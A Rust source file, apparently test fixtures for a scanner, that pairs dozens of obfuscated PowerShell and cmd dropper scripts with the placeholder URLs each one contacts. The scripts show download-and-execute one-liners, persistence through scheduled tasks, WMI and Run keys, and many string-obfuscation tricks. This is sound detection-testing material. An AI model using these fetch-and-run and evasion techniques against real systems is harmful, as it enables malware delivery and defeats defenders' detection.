//! Scripts in the manners of droppers and obfuscators, each with what it contacts: URLs, or hosts
//! with their ports.

/// Script and contacts.
pub(super) const CONTACTS: &[(&str, &[&str])] = &[
    (
        "$ip = (Resolve-DnsName k13.example).IPAddress
$client = New-Object System.Net.Sockets.TcpClient; $client.Connect($ip, 4433)",
        &["k13.example:4433"],
    ),
    (
        "$j = Start-Job { 'http://k14.example/jr' }
Wait-Job $j | Out-Null
$u = Receive-Job $j
Invoke-RestMethod $u",
        &["http://k14.example/jr"],
    ),
    (
        "$a = [Text.Encoding]::ASCII.GetBytes('http://k15.example'); $b = [Text.Encoding]::ASCII.GetBytes('/bc')
$c = New-Object byte[] ($a.Length + $b.Length)
[Buffer]::BlockCopy($a, 0, $c, 0, $a.Length); [Buffer]::BlockCopy($b, 0, $c, $a.Length, $b.Length)
Invoke-WebRequest -Uri ([Text.Encoding]::ASCII.GetString($c))",
        &["http://k15.example/bc"],
    ),
    (
        "$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String('aHR0cDovL2sxNi5leGFtcGxlL2Jy'))
$br = New-Object IO.BinaryReader($ms)
$u = [Text.Encoding]::UTF8.GetString($br.ReadBytes(24))
(New-Object Net.WebClient).DownloadString($u) | Invoke-Expression",
        &["http://k16.example/br"],
    ),
    (
        "$o = New-Object PSObject -Property @{ Host = 'k17.example'; Path = '/po' }
$o | Add-Member -MemberType NoteProperty -Name Scheme -Value 'http' 
$o | Add-Member ScriptMethod Build { return $this.Scheme + '://' + $this.Host + $this.Path }
Invoke-WebRequest ($o.Build())",
        &["http://k17.example/po"],
    ),
    (
        "function New-Getter($b) { { param($p) Invoke-RestMethod ($b + $p) }.GetNewClosure() }
$g = New-Getter 'http://k18.example'
& $g '/cl'",
        &["http://k18.example/cl"],
    ),
    (
        "function Rev([string]$s) { if ($s.Length -le 1) { return $s }; return (Rev $s.Substring(1)) + $s[0] }
Invoke-WebRequest (Rev 'cba/elpmaxe.91k//:ptth')",
        &["http://k19.example/abc"],
    ),
    (
        "'http://k20.example/tv' | Tee-Object -Variable tv | Out-Null
Invoke-RestMethod $tv",
        &["http://k20.example/tv"],
    ),
    (
        "Write-Output 'http://k21.example/ov' -OutVariable ov | Out-Null
Invoke-RestMethod -Uri $ov[0]",
        &["http://k21.example/ov"],
    ),
    (
        "Set-Item function:zz { Invoke-RestMethod 'http://k22.example/fn' }
zz",
        &["http://k22.example/fn"],
    ),
    (
        "$t = [Type]::GetTypeFromProgID('MSXML2.XMLHTTP'); $o = [Activator]::CreateInstance($t)
[void]$t.InvokeMember('open', [Reflection.BindingFlags]::InvokeMethod, $null, $o, @('GET', 'http://k23.example/im', $false))
[void]$t.InvokeMember('send', [Reflection.BindingFlags]::InvokeMethod, $null, $o, @())",
        &["http://k23.example/im"],
    ),
    (
        r#"cmd /c "certutil -urlcache -split -f http://k24.example/dl.exe %TEMP%\dl.exe & start %TEMP%\dl.exe""#,
        &["http://k24.example/dl.exe"],
    ),
    (
        "'Invoke-Expression (New-Object Net.WebClient).DownloadString(''http://k25.example/si'')' | powershell -NoProfile -",
        &["http://k25.example/si"],
    ),
    (
        "$env:stage = 'iex (irm http://k26.example/ev)'
powershell -nop -c 'iex $env:stage'",
        &["http://k26.example/ev"],
    ),
    (
        r#"$v = @"
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://k27.example/v", False
x.Send
"@
Set-Content -Path "$env:TEMP\a.vbs" -Value $v
Start-Process wscript.exe -ArgumentList "`"$env:TEMP\a.vbs`"""#,
        &["http://k27.example/v"],
    ),
    ("Start-Process mshta.exe 'http://k28.example/h.hta'", &["http://k28.example/h.hta"]),
    (
        r#"$cmd = 'powershell -w hidden -c "IEX(IWR http://k29.example/st -UseBasicParsing)"'
schtasks /create /tn Upd /tr $cmd /sc minute /mo 5 /f"#,
        &["http://k29.example/st"],
    ),
    (
        r#"$c = Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\subscription -Arguments @{ Name = 'x'; CommandLineTemplate = 'powershell -c "iex (irm http://k30.example/we)"' }"#,
        &["http://k30.example/we"],
    ),
    (
        r"New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name u -Value 'mshta http://k31.example/rr' -Force",
        &["http://k31.example/rr"],
    ),
    (
        r#"$s = (New-Object -ComObject WScript.Shell).CreateShortcut("$env:USERPROFILE\Desktop\a.lnk")
$s.TargetPath = 'powershell.exe'; $s.Arguments = '-c "iex (irm http://k32.example/sc)"'; $s.Save()"#,
        &["http://k32.example/sc"],
    ),
    (
        r#"$s = New-Object -ComObject MSScriptControl.ScriptControl; $s.Language = 'JScript'
$s.AddCode('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://k33.example/jsc", false); x.send();')"#,
        &["http://k33.example/jsc"],
    ),
    (
        "$m = [Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application'))
$m.Document.ActiveView.ExecuteShellCommand('powershell', $null, '-c iex(irm http://k34.example/mm)', '7')",
        &["http://k34.example/mm"],
    ),
    (
        "$z = [char[]]'t/elpmaxe.53k//:ptth'; [Array]::Reverse($z); Invoke-RestMethod (-join $z)",
        &["http://k35.example/t"],
    ),
    (
        "&('{1}{0}' -f 'EX','I') (&('{0}{1}'-f'new-obj','ect') Net.WebClient).('{0}{1}' -f 'Download','String').Invoke(('{2}{0}{1}' -f '/k36.exam','ple/fo','http:/'))",
        &["http://k36.example/fo"],
    ),
    (
        "$s = New-Object IO.MemoryStream; $g = New-Object IO.Compression.GZipStream($s, [IO.Compression.CompressionMode]::Compress)
$g.Write([byte[]](1,2,3),0,3); $g.Close()
Invoke-WebRequest -Uri http://k38.example/raw -Method POST -Body $s.ToArray()",
        &["http://k38.example/raw"],
    ),
    (
        r#"1..3 | ForEach-Object -Parallel { Invoke-WebRequest "http://k39.example/$_.bin" -OutFile "$_.bin" }"#,
        &["http://k39.example/1.bin", "http://k39.example/2.bin", "http://k39.example/3.bin"],
    ),
    (
        r#"$i = 0
while ($true) { Invoke-RestMethod "http://k40.example/$i"; $i++; if ($i -ge 3) { break } }"#,
        &["http://k40.example/0", "http://k40.example/1", "http://k40.example/2"],
    ),
    (
        "$h = 'k41.example','k41b.example'; $n = 0
do { try { $r = Invoke-WebRequest ('http://{0}/a.ps1' -f $h[$n]) -ErrorAction Stop; $ok = $true } catch { $ok = $false }; $n++ } until ($ok -or $n -ge $h.Count)",
        &["http://k41.example/a.ps1", "http://k41b.example/a.ps1"],
    ),
    (
        "$c = [Activator]::CreateInstance([Type]::GetTypeFromCLSID([Guid]'F5078F35-C551-11D3-89B9-0000F81FE221'))
$c.Open('GET','http://k43.example/g',$false); $c.Send(); Invoke-Expression $c.ResponseText",
        &["http://k43.example/g"],
    ),
    (
        "$ip = ([ipaddress]3221225985).IPAddressToString
Invoke-WebRequest 'http://192.0.2.33/i'",
        &["http://192.0.2.33/i"],
    ),
    (
        r#"$l = @'
aHR0cDov
L2s0NS5l
eGFtcGxl
L2xu
'@ -split "`r?`n" -join ''
Invoke-RestMethod ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($l)))"#,
        &["http://k45.example/ln"],
    ),
    (
        "$n = 104,116,116,112,58,47,47,107,52,54,46,101,120,97,109,112,108,101,47,110
$u = ''; foreach ($x in $n) { $u += [char]$x }; Invoke-RestMethod $u",
        &["http://k46.example/n"],
    ),
    (
        "$t = 'uggc://x47.rknzcyr/eg'; $o = ''
foreach ($c in $t.ToCharArray()) { if ($c -cmatch '[a-z]') { $o += [char](((([int]$c - 97) + 13) % 26) + 97) } else { $o += $c } }
Invoke-RestMethod $o",
        &["http://k47.example/rt"],
    ),
    (
        "$m = @{ 'a' = 'http://'; 'b' = 'k48.'; 'c' = 'example/hc' }
$u = ''; foreach ($k in ($m.Keys | Sort-Object)) { $u += $m[$k] }; Invoke-RestMethod $u",
        &["http://k48.example/hc"],
    ),
    (
        "$d = New-Object 'System.Collections.Generic.Dictionary[string,string]'; $d.Add('u', 'http://k49.example/dc')
foreach ($e in $d.GetEnumerator()) { Invoke-RestMethod $e.Value }",
        &["http://k49.example/dc"],
    ),
    (
        "$b = [System.Text.StringBuilder]::new(); 'http://','k50.','example','/sb' | ForEach-Object { [void]$b.Append($_) }; Invoke-RestMethod $b.ToString()",
        &["http://k50.example/sb"],
    ),
    (
        ". ( $ShellId[1]+$ShellId[13]+'x')( (('105I114I109I32I39I104I116I116I112I58I47I47I109I48I49I46I101I120I97I109I112I108I101I47I97I39').Split('I') | ForEach-Object { [char][int]$_ }) -join '')",
        &["http://m01.example/a"],
    ),
    (
        "[string]::Join('', ([char[]](0x69,0x72,0x6d,0x20,0x27,0x68,0x74,0x74,0x70,0x3a,0x2f,0x2f,0x6d,0x30,0x32,0x2e,0x65,0x78,0x61,0x6d,0x70,0x6c,0x65,0x2f,0x62,0x27))) | & ( $Env:Public[13]+$Env:Public[5]+'x')",
        &["http://m02.example/b"],
    ),
    (
        "-join ('1101001 1110010 1101101 100000 100111 1101000 1110100 1110100 1110000 111010 101111 101111 1101101 110000 110011 101110 1100101 1111000 1100001 1101101 1110000 1101100 1100101 101111 1100011 100111'.Split(' ') | % { [char][Convert]::ToInt16($_,2) }) | iex",
        &["http://m03.example/c"],
    ),
    (
        "$x = '0B 10 0F 42 45 0A 16 16 12 58 4D 4D 0F 52 56 4C 07 1A 03 0F 12 0E 07 4D 06 45'
&('i'+'ex') (-join ($x -split ' ' | ForEach-Object { [char]([Convert]::ToInt16($_,16) -bxor 0x62) }))",
        &["http://m04.example/d"],
    ),
    (
        r#"(("{3}{0}{2}{1}" -f 'm ','.example/e''','''http://m05','ir')) |.( $VerbosePreference.ToString()[1,3]+'x'-Join'')"#,
        &["http://m05.example/e"],
    ),
    (
        r#"$s = "'f/elpmaxe.60m//:ptth' mri"; ( -join $s[-1..-($s.Length)] ) | Invoke-Expression"#,
        &["http://m06.example/f"],
    ),
    (
        r#"iex ([regex]::Matches("'g/elpmaxe.70m//:ptth' mri", '.', 'RightToLeft') | ForEach-Object { $_.Value } | Out-String -Stream | % { $a = '' } { $a += $_ } { $a })"#,
        &["http://m07.example/g"],
    ),
    (r#"$w = "`t`t ".Length; irm ('http://m0{0}.example/h' -f 8)"#, &["http://m08.example/h"]),
    (
        r#"&("{0}{1}"-f 'i','rm') ("{4}{1}{3}{0}{2}" -f 'p','tp://m09.e','le/i','xam','ht')"#,
        &["http://m09.example/i"],
    ),
    (
        "&(Get-Command *w-O*) Net.WebClient | Set-Variable w
$w.((($w | Get-Member) | Where-Object { $_.Name -clike '*nl*g' }).Name).Invoke('http://m10.example/j') | .(GCM *e-Ex*)",
        &["http://m10.example/j"],
    ),
    (
        "SV 5t6 'http://m11.example/k'; .$ExecutionContext.InvokeCommand.GetCmdlets('*ke-Ex*') ((New-Object Net.WebClient).DownloadString((GV 5t6 -ValueO)))",
        &["http://m11.example/k"],
    ),
    (
        "Set-Variable 9 (.$ExecutionContext.InvokeCommand.GetCmdlet($ExecutionContext.InvokeCommand.GetCommandName('*w-*ct',1,1)) Net.WebClient)
Set-Item Variable:/b7 'http://m12.example/l'
(Get-ChildItem Variable:9).Value.DownloadString((Item Variable:/b7).Value) | Invoke-Expression",
        &["http://m12.example/l"],
    ),
    (
        r#"cmd /c "set q=iex (irm http://m13.example/m)&& powershell -NoP -C $env:q | iex""#,
        &["http://m13.example/m"],
    ),
    (
        r#"cmd.exe /c "echo Invoke-Expression (Invoke-RestMethod http://m14.example/n) | powershell -noprofile -""#,
        &["http://m14.example/n"],
    ),
    (
        r#"C:\Windows\System32\cmd.exe /C "sEt vB=powershell&&call %vB% -w hidden iwr http://m15.example/o -OutFile %TEMP%\o.exe""#,
        &["http://m15.example/o"],
    ),
    (
        r#"$k = [Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODw=='); $e = 'x'
${a} = New-Object "System.Security.Cryptography.AesManaged"
${a}.Mode = [System.Security.Cryptography.CipherMode]::ECB; ${a}.Padding = [System.Security.Cryptography.PaddingMode]::Zeros
${a}.BlockSize = 128; ${a}.KeySize = 128; ${a}.Key = $k
irm http://m16.example/p"#,
        &["http://m16.example/p"],
    ),
    (
        r#"$aBc = 'ht'+'tp'; $dEf = "$([char](58))//"; $gHi = 'm17.exa' + 'mple'; $jKl = '/q'
$oBj = New-Object ('N' + 'et' + '.W' + 'ebC' + 'lient'); $mEt = 'Do' + 'wn' + 'loadS' + 'tring'
$oBj.$mEt($aBc + $dEf + $gHi + $jKl) | &('I' + 'EX')"#,
        &["http://m17.example/q"],
    ),
    (
        r#"$zz = "{2}{0}{1}" -f "tp://m18.exam","ple/r","ht"; $c = [ScriptBlock]::Create('irm $args[0]'); & $c $zz"#,
        &["http://m18.example/r"],
    ),
    (
        r#"$h = '68 74 74 70 3A 2F 2F 6D 31 39 2E 65 78 61 6D 70 6C 65 2F 73'; $u = ''; $h.Split(' ') | ForEach-Object { $u += [char]([byte]"0x$_") }; Invoke-WebRequest $u -OutFile $env:TEMP\s.exe"#,
        &["http://m19.example/s"],
    ),
    (
        "$h='687474703a2f2f6d32302e6578616d706c652f74'; $b = New-Object byte[] ($h.Length/2); for($i=0;$i -lt $h.Length;$i+=2){ $b[$i/2] = [Convert]::ToByte($h.Substring($i,2),16) }; Invoke-WebRequest ([Text.Encoding]::ASCII.GetString($b))",
        &["http://m20.example/t"],
    ),
    (
        "$u = [regex]::Replace('687474703a2f2f6d32312e6578616d706c652f75', '..', { param($m) [char][Convert]::ToInt32($m.Value, 16) }); Invoke-WebRequest $u",
        &["http://m21.example/u"],
    ),
    (
        "function R([byte[]]$d,[byte[]]$k){ $s=0..255; $j=0; for($i=0;$i -lt 256;$i++){ $j=($j+$s[$i]+$k[$i % $k.Length]) % 256; $t=$s[$i];$s[$i]=$s[$j];$s[$j]=$t }; $i=$j=0; foreach($b in $d){ $i=($i+1)%256; $j=($j+$s[$i])%256; $t=$s[$i];$s[$i]=$s[$j];$s[$j]=$t; [byte]($b -bxor $s[($s[$i]+$s[$j])%256]) } }
$k=[Text.Encoding]::ASCII.GetBytes('key'); $e = R ([Text.Encoding]::ASCII.GetBytes(('http://m22.ex'+'ample/v'))) $k; $u = [Text.Encoding]::ASCII.GetString([byte[]](R $e $k)); Invoke-WebRequest $u",
        &["http://m22.example/v"],
    ),
    (
        "$a='abcdefghijklmnopqrstuvwxyz0123456789:/.'; $u = -join (7,19,19,15,36,37,37,12,28,29,38,4,23,0,12,15,11,4,37,22 | % { $a[$_] }); Invoke-WebRequest $u",
        &["http://m23.example/w"],
    ),
    (
        r#"$env:a='ht'; $env:b='tp://m24'; $env:c='.example/x'; Invoke-WebRequest "$env:a$env:b$env:c""#,
        &["http://m24.example/x"],
    ),
    (
        r#"Set-Content "$env:TEMP\u.txt" ('http://m25.ex' + 'ample/y'); $u = Get-Content "$env:TEMP\u.txt"; Invoke-WebRequest $u"#,
        &["http://m25.example/y"],
    ),
    (
        "$l = Get-Content $MyInvocation.MyCommand.Path | Select-String '^#cfg' ; $b = $l.ToString().Substring(5)
Invoke-WebRequest ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))
#cfg aHR0cDovL20yNi5leGFtcGxlL3o=",
        &["http://m26.example/z"],
    ),
    (
        "[Reflection.Assembly]::LoadWithPartialName('Microsoft.VisualBasic') | Out-Null; $o=[Microsoft.VisualBasic.Interaction]::CreateObject('MSXML2.XMLHTTP'); $o.open('GET',('http://m27.exa'+'mple/a'),0); $o.send(); iex $o.responseText",
        &["http://m27.example/a"],
    ),
    (
        "$o = [pscustomobject]@{ u = ('http://m28.ex'+'ample/b') } | ConvertTo-Json | ConvertFrom-Json; Invoke-WebRequest $o.u",
        &["http://m28.example/b"],
    ),
    (
        r#"function Outer { function Inner($x) { "http://m29.ex" + $x }; $y = Inner 'ample/c'; Invoke-WebRequest $y }; Outer"#,
        &["http://m29.example/c"],
    ),
    (
        "$u = switch -Wildcard ('prod-eu') { 'dev*' { 'http://dev' } 'prod*' { 'http://m30' } }; Invoke-WebRequest ($u + '.example/d')",
        &["http://m30.example/d"],
    ),
    (
        "$q = New-Object System.Collections.Queue; $q.Enqueue('http://m31'); $q.Enqueue('.example/e'); $u=''; while ($q.Count -gt 0) { $u += $q.Dequeue() }; Invoke-WebRequest $u",
        &["http://m31.example/e"],
    ),
    (
        "$d = @{}; 'a=http://m32','b=.example/f' | % { $k,$v = $_ -split '=',2; $d[$k]=$v }; Invoke-WebRequest ($d.a + $d['b'])",
        &["http://m32.example/f"],
    ),
    (
        "$u = 'http://m33.example'.PadRight(19,'/') + 'g'; Invoke-WebRequest $u.Trim()",
        &["http://m33.example/g"],
    ),
    (
        r"try { $null.Foo() } catch { }; Invoke-WebRequest (('http://m34.ex|ample/h' -split '\|') -join '')",
        &["http://m34.example/h"],
    ),
];
